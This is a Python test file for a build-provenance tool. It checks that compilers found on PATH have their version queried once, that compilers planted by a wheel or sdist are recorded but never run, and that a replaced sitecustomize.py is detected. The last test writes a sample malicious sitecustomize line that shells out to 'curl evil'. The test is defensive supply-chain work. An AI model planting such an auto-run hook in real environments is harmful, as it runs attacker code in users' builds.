"""The compilers a build can run: found on its PATH, asked once per run, and never run when a
wheel or an sdist put them there."""

from __future__ import annotations

import hashlib
import os
from pathlib import Path

from rewheel.build.conditions import process_umask, sitecustomize_of
from rewheel.build.toolchain import BUILD, SYSTEM, Toolchain


def _script(path: Path, body: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


def test_a_system_compiler_is_asked_its_version_once_per_run(tmp_path: Path) -> None:
    counter = tmp_path / "runs"
    gcc = _script(
        tmp_path / "sys" / "bin" / "gcc-12",
        f'echo run >> "{counter}"\necho "gcc (Test) 12.2.0"\necho "Copyright"\n',
    )
    (tmp_path / "sys" / "bin" / "gcc").symlink_to("gcc-12")
    toolchain = Toolchain(names=("gcc", "gfortran"))
    # Each build's PATH starts with its own build environment: asked once all the same.
    first, again = (
        toolchain.programs(
            {"PATH": f"{tmp_path / name / 'env' / 'bin'}:{tmp_path / 'sys' / 'bin'}"},
            untrusted=[tmp_path / name],
        )
        for name in ("app-1.0", "lib-2.0")
    )
    assert first == again
    (program,) = first  # no gfortran here: not listed
    assert program.name == "gcc"
    assert program.path == str(tmp_path / "sys" / "bin" / "gcc")
    assert program.real_path == str(gcc)
    assert program.version == "gcc (Test) 12.2.0"
    assert program.sha256 == hashlib.sha256(gcc.read_bytes()).hexdigest()
    assert program.origin == SYSTEM
    assert counter.read_text() == "run\n"


def test_a_compiler_a_build_environment_holds_is_recorded_and_never_run(tmp_path: Path) -> None:
    # A wheel of the build environment (or the sdist itself) ships bin/cc, first on PATH: the
    # build would run it, so the provenance must say so, but rewheel must not run it outside
    # the sandbox to ask its version.
    marker = tmp_path / "ran"
    env_bin = tmp_path / "work" / "app-1.0" / "env" / "bin"
    planted = _script(env_bin / "cc", f'touch "{marker}"\necho "cc 1.0"\n')
    _script(tmp_path / "sys" / "cc", 'echo "cc (System) 12"\n')
    environ = {"PATH": f"{env_bin}:{tmp_path / 'sys'}", "CC": f"{planted} -O2"}
    programs = Toolchain(names=("cc",)).programs(environ, untrusted=[tmp_path / "work" / "app-1.0"])
    assert [(p.name, p.path, p.version, p.origin) for p in programs] == [
        ("cc", str(planted), None, BUILD),
        ("$CC", str(planted), None, BUILD),
    ]
    assert programs[0].sha256 == hashlib.sha256(planted.read_bytes()).hexdigest()
    assert not marker.exists()


def test_the_compiler_a_variable_names_is_recorded_under_its_name(tmp_path: Path) -> None:
    _script(tmp_path / "sys" / "clang", 'echo "clang version 16"\n')
    programs = Toolchain(names=()).programs({"PATH": str(tmp_path / "sys"), "CC": "clang -O2"})
    assert [(p.name, p.version) for p in programs] == [("$CC", "clang version 16")]


def test_a_rustup_proxy_is_recorded_as_the_toolchain_binary_it_runs(tmp_path: Path) -> None:
    real = _script(tmp_path / "toolchains" / "stable" / "bin" / "rustc", "echo real\n")
    rustup = _script(
        tmp_path / "cargo" / "bin" / "rustup",
        'if [ "$1" = which ]; then echo "' + str(real) + '"; else echo "rustc 1.95.0 (test)"; fi\n',
    )
    (tmp_path / "cargo" / "bin" / "rustc").symlink_to(rustup.name)
    environ = {"PATH": str(tmp_path / "cargo" / "bin"), "RUSTUP_TOOLCHAIN": "stable"}
    (program,) = Toolchain(names=("rustc",)).programs(environ)
    assert program.real_path == str(real)
    assert program.version == "rustc 1.95.0 (test)"
    assert program.sha256 == hashlib.sha256(real.read_bytes()).hexdigest()


def test_the_umask_is_read_without_changing_it(tmp_path: Path) -> None:
    status = tmp_path / "status"
    status.write_text("Name:\tpython3\nUmask:\t0077\nState:\tR (running)\n")
    assert process_umask(status) == "0077"
    assert process_umask(tmp_path / "missing") is None
    old = os.umask(0o027)
    try:
        assert process_umask() == "0027"
    finally:
        os.umask(old)


def test_a_replaced_sitecustomize_is_told_apart_from_rewheels(tmp_path: Path) -> None:
    from rewheel.build.buildenv import SITECUSTOMIZE

    site = tmp_path / "env" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True)
    (site / "sitecustomize.py").write_text(SITECUSTOMIZE)
    ours = sitecustomize_of(tmp_path / "env")
    assert ours is not None and ours["rewheel"] is True
    assert ours["path"] == "lib/python3.11/site-packages/sitecustomize.py"
    (site / "sitecustomize.py").write_text("import os; os.system('curl evil')\n")
    theirs = sitecustomize_of(tmp_path / "env")
    assert theirs is not None and theirs["rewheel"] is False
    assert theirs["sha256"] == hashlib.sha256(b"import os; os.system('curl evil')\n").hexdigest()
    assert sitecustomize_of(tmp_path / "nothing") is None
